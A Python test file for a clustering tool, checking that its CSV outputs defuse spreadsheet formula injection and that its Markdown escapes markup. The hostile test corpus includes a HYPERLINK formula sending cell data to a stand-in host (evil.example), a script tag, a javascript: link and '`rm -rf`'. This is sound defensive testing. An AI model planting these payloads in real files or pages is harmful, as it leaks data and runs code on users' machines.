"""Hostile text from the records and the user stays inert in every CSV the tool writes.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (CSV injection, OWASP: https://owasp.org/www-community/attacks/CSV_Injection).
The corpus below is what the issue's probe used (institution and field values such as
``=HYPERLINK(...)``), plus Markdown and HTML markup. It flows from records through
``cluster.run(...).write(...)`` into ``ranking.csv`` and ``profiles.csv``, and from a run's
cluster names through ``cluster index`` into ``index.csv``.
"""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

import cluster
from cluster.config import load_config
from cluster.outputs._text import FORMULA_STARTS, csv_safe, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
           "a|b", "<script>alert(1)</script>", "`rm -rf`", "two\nlines", "=1+1"]


def _cells(path):
    """Every cell of a CSV file, parsed as a spreadsheet would read it (headers included)."""
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_inert(path):
    bad = [c for c in _cells(path) if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert not bad, f"{path.name}: cells a spreadsheet would run: {bad}"


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def _records():
    """Two cities 500 km apart (Munich, Stuttgart), 12 single-site patents each; every
    document's institution and field come from the hostile corpus; Munich's top
    institution is the HYPERLINK formula (4 documents)."""
    rows = []
    for city, (lat, lon) in enumerate([(48.137, 11.575), (48.776, 9.177)]):
        for i in range(12):
            inst = HOSTILE[0] if (city == 0 and i < 4) else HOSTILE[(i + city) % len(HOSTILE)]
            rows.append(("patents", f"c{city}-{i}", lat, lon, HOSTILE[(i + 3) % len(HOSTILE)], inst))
    return pd.DataFrame(rows, columns=["metric", "doc_id", "lat", "lon", "field", "institution"])


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile") / "out"
    res = cluster.run(_records(), load_config(overrides={"min_weight": {"patents": 3.0}}))
    assert len(res.clusters) == 2
    res.write(out)
    return res, out


def test_ranking_and_profiles_csv_hold_no_formula(written):
    res, out = written
    for name in ("ranking.csv", "profiles.csv"):
        _assert_inert(out / name)
    ranking = pd.read_csv(out / "ranking.csv")
    munich = ranking[ranking["name"].str.contains("Munich")].iloc[0]
    assert munich["top_institution_patents"] == "'" + HOSTILE[0]  # kept, quoted, readable
    profiles = pd.read_csv(out / "profiles.csv", keep_default_na=False)
    values = set(profiles["value"])
    assert "'@SUM(A1)" in values and "'-2+3" in values and "'+1" in values  # (tab, CR: trimmed on reading)
    assert "<script>alert(1)</script>" in values and "a|b" in values  # no formula: left as it is
    # Numbers stay numbers: the numeric columns parse as numbers, negative or not.
    assert pd.api.types.is_float_dtype(profiles["share"]) and pd.api.types.is_integer_dtype(profiles["rank"])
    # In memory nothing changed: the quote belongs to the CSV file only.
    assert HOSTILE[0] in set(res.profiles["value"])


def test_report_csv_tables_hold_no_formula(written):
    _, out = written
    for path in sorted(out.glob("report_*.csv")):
        _assert_inert(path)


def test_markdown_outputs_escape_the_corpus(written):
    _, out = written
    for name in ("ranking.md", "report.md"):
        text = (out / name).read_text("utf-8")
        assert "<script>" not in text and "a|b" not in text, name


def test_csv_safe_keeps_numbers_and_quotes_text(tmp_path):
    df = pd.DataFrame({"n": [-3, 2], "x": [-0.5, np.nan], "t": ["-3", "=A1"], "ok": ["Munich", None],
                       "s": pd.array(["+1", "x"], dtype="string"), "c": pd.Categorical(["@a", "b"]),
                       "mixed": pd.Series([-1, "-1"], dtype=object), "=head": [1, 2]})
    out = csv_safe(df)
    assert out["n"].tolist() == [-3, 2] and out["n"].dtype == df["n"].dtype
    assert out["x"].iloc[0] == -0.5 and out["x"].dtype == df["x"].dtype
    assert out["t"].tolist() == ["'-3", "'=A1"]
    assert out["ok"].iloc[0] == "Munich" and pd.isna(out["ok"].iloc[1])
    assert out["s"].tolist() == ["'+1", "x"] and out["c"].tolist() == ["'@a", "b"]
    assert out["mixed"].tolist() == [-1, "'-1"]
    assert list(out.columns)[-1] == "'=head"
    assert df["t"].tolist() == ["-3", "=A1"]  # the input is not changed
    buf = io.StringIO()
    csv_safe(pd.DataFrame({"a": ["\rx", "\tx"]})).to_csv(buf, index=False)
    assert "'\nx" in buf.getvalue() and "'\tx" in buf.getvalue()
    # A carriage return inside a cell would end the row for every reader: it becomes a line feed,
    # which the writer quotes.
    path = write_csv(pd.DataFrame({"id": ["a", "b"], "name": ["x\ry", "\rz"]}), tmp_path / "cr.csv")
    back = pd.read_csv(path)
    assert back["id"].tolist() == ["a", "b"] and back["name"].tolist() == ["x\ny", "'\nz"]


def test_every_csv_writer_goes_through_write_csv():
    """No ``to_csv`` outside the one writer: a new CSV output cannot forget the rule."""
    from pathlib import Path

    package = Path(cluster.__file__).parent
    users = [str(p.relative_to(package)) for p in package.rglob("*.py") if ".to_csv(" in p.read_text("utf-8")]
    assert users == ["outputs/_text.py"], users


def test_index_csv_holds_no_formula(tmp_path):
    from test_composite_io import _clusters, _fw, _points

    from cluster.cli import main

    run = tmp_path / "run"
    run.mkdir()
    g = _clusters()
    g["name"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(g))]
    write_csv(pd.DataFrame(g.drop(columns="geometry")), run / "ranking.csv")
    g.to_parquet(run / "clusters.parquet")
    (run / "run.json").write_text('{"synthetic": true}')
    args = ["-q", "index", "--run", str(run), "--framework", str(_fw(tmp_path)), "--table",
            f"uni={_points(tmp_path)}", "--out", str(tmp_path / "ix")]
    assert main(args) == 0
    for path in sorted((tmp_path / "ix").glob("*.csv")):
        _assert_inert(path)
    t = pd.read_csv(tmp_path / "ix" / "index.csv")
    assert any(n.startswith("'=HYPERLINK") for n in t["name"])
    md = (tmp_path / "ix" / "index.md").read_text("utf-8")
    assert "<script>" not in md
    # The names come from the run's layer (the text itself), not from ranking.csv's quoted cells.
    assert '=HYPERLINK' in md and "'=HYPERLINK" not in md and "'@SUM" not in md


# --- Markdown: user text from the configuration and a framework stays text -------------------

_HOSTILE_MD = ["<script>alert(1)</script>", "[click](javascript:alert(1))", "a|b", "`tick`", "*bold*", "# head"]


def _md_clean(text):
    """No raw tag, no live link, no stray table column from the hostile corpus."""
    assert "<script>" not in text and "](javascript" not in text, text
    assert "*bold*" not in text and "\n# head" not in text


def test_ranking_markdown_escapes_metric_names():
    from test_escaping import _clusters

    from cluster.outputs.files import ranking_markdown

    table = _clusters("Town")
    metric = "<script>alert(1)</script>"
    table[metric] = 1.0
    table[f"top_field_{metric}"] = "*bold*"
    info = {"counts": {"clusters": 1, "top": 1, "emerging": 0, "records_used": 1, "sites": 1},
            "config": {"clustering": {"eps_km": 10}}}
    md = ranking_markdown(table, info, [metric], None)
    _md_clean(md)
    head = [line for line in md.splitlines() if line.startswith("| Rank | Cluster | Economies")][0]
    assert head.count("|") - head.count("\\|") == 7


def test_index_markdown_escapes_the_framework_text(tmp_path):
    from test_composite_io import _FW, _fw, _points, _run_dir

    from cluster.composite import run_index

    text = _FW.replace('name = "Toy"', 'name = "Toy"\ndescription = """First <script>alert(1)</script>.\n\n'
                                         'See [click](javascript:alert(1)) and *bold*.\n# head"""')
    text = text.replace('code = "size"\nparent = "index"', 'code = "size"\nparent = "index"\nlabel = "a|b *bold*"')
    text = text.replace('code = "vc"\nparent = "size"', 'code = "v`c|x"\nparent = "size"\nlabel = "<script>"')
    res = run_index(_run_dir(tmp_path), _fw(tmp_path, text), tmp_path / "ix", tables={"uni": str(_points(tmp_path))},
                    samples=8)
    md = (tmp_path / "ix" / "index.md").read_text("utf-8")
    _md_clean(md)
    assert "First \\<script\\>alert\\(1\\)\\</script\\>." in md  # the description, escaped, paragraphs kept
    assert "`` v`c\\|x ``" in md  # a code with a backtick and a pipe is one code span
    for line in md.splitlines():  # every table row keeps its number of columns
        if line.startswith("| ") and "Rank" not in line:
            assert line.count("|") - line.count("\\|") >= 3
    corr = [line for line in md.splitlines() if "v`c" in line and line.startswith("| ")]
    assert corr and all(line.count("|") - line.count("\\|") in (5, 6, 10) for line in corr)
    assert len(res.table) > 0
